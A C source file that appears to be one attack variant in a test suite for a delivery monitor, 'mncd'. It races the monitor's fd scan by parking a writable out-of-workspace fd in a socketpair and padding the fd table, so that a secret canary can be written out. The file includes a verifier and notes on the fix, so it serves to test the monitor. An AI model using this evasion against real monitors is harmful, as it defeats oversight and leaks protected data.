// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* fdscan_park_race - a foreign writable fd parked in flight only while mncd's fd scan runs.
 * At a delivery mncd freezes the agent, sweeps its sockets (peeking its own socket queues: a
 * writable file parked there refuses the delivery, file_fd_own_queue), THAWS it, and only then
 * runs the fd scan (a writable fd on a file outside the workspace refuses the delivery,
 * foreign_file_fd) over /proc/PID/fd. Before its recv the agent takes from the collector's
 * untainted helper an fd open for writing on DIR/given.out (outside the workspace). A thread
 * of the agent (sharing the fd table, as seccomp requires) spins on CLOCK_MONOTONIC: a gap
 * longer than GAP_US is the freeze ending, and the fd scan comes next. At that moment the
 * thread parks the fd in the agent's own socketpair (SCM_RIGHTS) and closes it, waits PARK_US
 * and takes it back. During the frozen sweep the fd sat in the table (not a socket: the sweep
 * does not look at it); during the fd scan it is in flight (the fd scan does not peek queues).
 * The fd scan reads fds in ascending order, so the foreign fd sits at the highest number,
 * behind ~20000 fds on /dev/null: the scan reaches it long after the thaw. A refused recv
 * leaves the object queued, so the agent simply tries again (up to TRIES).
 * After the delivery the agent writes the canary through the fd.
 * Verifier: reads DIR/given.out.
 * Would block it: running the fd scan while the agent is still frozen (in the same freeze as
 * the sweep, which then also peeks the queues for files), or peeking the agent's queues for
 * non-socket fds again in the fd scan. */
#include <fcntl.h>
#include <pthread.h>
#include <sys/resource.h>
#include <stdatomic.h>
#include <time.h>

#include "atk_variants.h"

#define TRIES 30
#define GAP_US 2000
#define PARK_US 150000

static atomic_int cur_fd = -1, stop_spin, parks;
static int sp[2];

static long now_us(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000000L + ts.tv_nsec / 1000;
}

static void *spinner(void *arg)
{
    (void)arg;
    long last = now_us();
    while (!atomic_load(&stop_spin)) {
        long t = now_us();
        if (t - last > GAP_US) { /* thawed (or descheduled): park the fd for the fd scan */
            int fd = atomic_load(&cur_fd);
            if (atk_send_fds(sp[0], 'F', &fd, 1) == 0) {
                close(fd);
                usleep(PARK_US);
                int back = -1;
                if (atk_recv_fds(sp[1], &back, 1) != 1)
                    return NULL; /* lost it: the write will fail and say so */
                atomic_store(&cur_fd, back);
                atomic_fetch_add(&parks, 1);
            }
            t = now_us();
        }
        last = t;
    }
    return NULL;
}

/* One recv of our object, quietly (the orchestrator answered "hold recv" once): 1 delivered
 * (canary in c->secret), 0 refused (still queued), -1 failed. */
static int try_recv(struct atk_ctx *c, char *why, size_t n)
{
    static char resp[1 << 17];
    int fd = atk_mncd(c);
    if (fd < 0 || atk_call(fd, "{\"verb\":\"recv\"}", resp, sizeof(resp)) < 0) {
        snprintf(why, n, "no answer from mncd");
        if (fd >= 0)
            close(fd);
        return -1;
    }
    close(fd);
    const char *mine = resp;
    if (atk_arg(c, "obj")) {
        char pat[64];
        snprintf(pat, sizeof(pat), "\"id\":\"%.40s\"", atk_arg(c, "obj"));
        mine = strstr(resp, pat);
    }
    const char *v = mine ? strstr(mine, "\"selected_slot\":\"") : NULL;
    if (!v) {
        const char *r = strstr(resp, "\"reason\":\"");
        snprintf(why, n, "%.60s", r ? r + 10 : resp);
        why[strcspn(why, "\"")] = 0;
        return strstr(resp, "\"denied\":[{") ? 0 : -1;
    }
    v += 17;
    size_t l = strcspn(v, "\"");
    snprintf(c->secret, sizeof(c->secret), "%.*s", (int)(l < sizeof(c->secret) ? l : sizeof(c->secret) - 1), v);
    return 1;
}

static int agent(struct atk_ctx *c)
{
    char req[700];
    snprintf(req, sizeof(req), "F%s/given.out", atk_arg(c, "dir"));
    int fd = -1;
    if (atk_try(c, "take helper's file fd", atk_take(c, req, &fd, 1)) < 1)
        return 0;
    if (getenv("ATK_CONTROL_SECRET")) { /* positive control: no mncd, no scan to dodge */
        atk_recv(c);
        atk_try(c, "write", write(fd, c->secret, strlen(c->secret)));
        return 0;
    }
    if (atk_try(c, "socketpair", socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sp)) < 0)
        return 0;
    /* the fd scan reads the fds in ascending order (readlink, fstat and fdinfo for each): the
     * foreign fd goes last, behind thousands of /dev/null fds, so the thread has time to park
     * it after the thaw */
    struct rlimit rl;
    int hi = 0;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
        getrlimit(RLIMIT_NOFILE, &rl);
        hi = (rl.rlim_cur > 20000 ? 20000 : (int)rl.rlim_cur) - 200; /* free numbers stay above it */
    }
    int dn = open("/dev/null", O_RDONLY | O_CLOEXEC);
    if (hi > 64 && dn >= 0 && dup3(fd, hi, O_CLOEXEC) == hi) {
        close(fd);
        fd = hi;
        int k = 0;
        while (fcntl(dn, F_DUPFD_CLOEXEC, 0) >= 0 && k < hi)
            k++; /* fills every free number below hi */
        atk_note(c, "foreign fd at %d behind %d /dev/null fds", fd, k);
    }
    atomic_store(&cur_fd, fd);
    pthread_t th;
    if (atk_try(c, "spinner thread", -pthread_create(&th, NULL, spinner, NULL) ? -1 : 0) < 0)
        return 0;
    atk_say(c, "hold recv"); /* the orchestrator closes the control file and says go, once */
    char line[16];
    if (!fgets(line, sizeof(line), stdin))
        exit(4);
    char why[128] = "";
    int got = 0, i;
    for (i = 0; i < TRIES && got == 0 && (i < 8 || atomic_load(&parks) > 0); i++) { /* no freeze seen: lsm */
        got = try_recv(c, why, sizeof(why));
        if (got == 0)
            usleep(PARK_US + 50000); /* let a park in progress end */
    }
    usleep(PARK_US + 50000);
    atomic_store(&stop_spin, 1);
    pthread_join(th, NULL);
    if (got < 0) {
        atk_say(c, "recv fail: %s", why);
        exit(3);
    }
    if (got == 0) {
        atk_say(c, "recv refused %s: %d tries, %d parks", why, i, atomic_load(&parks));
        exit(0);
    }
    atk_say(c, "recv ok");
    atk_note(c, "delivered at try %d of %d, %d parks", i, TRIES, atomic_load(&parks));
    fd = atomic_load(&cur_fd);
    atk_note(c, "the fd is now %d", fd);
    atk_try(c, "write the canary through the fd", write(fd, c->secret, strlen(c->secret)));
    return 0;
}

static const struct atk A = {"fdscan_park_race",
                             "helper's writable file fd parked in flight while the (unfrozen) fd scan runs",
                             ATK_NO_RECV,
                             NULL,
                             agent,
                             NULL,
                             atkv_given_file_verify,
                             NULL};
ATK_MAIN(A)
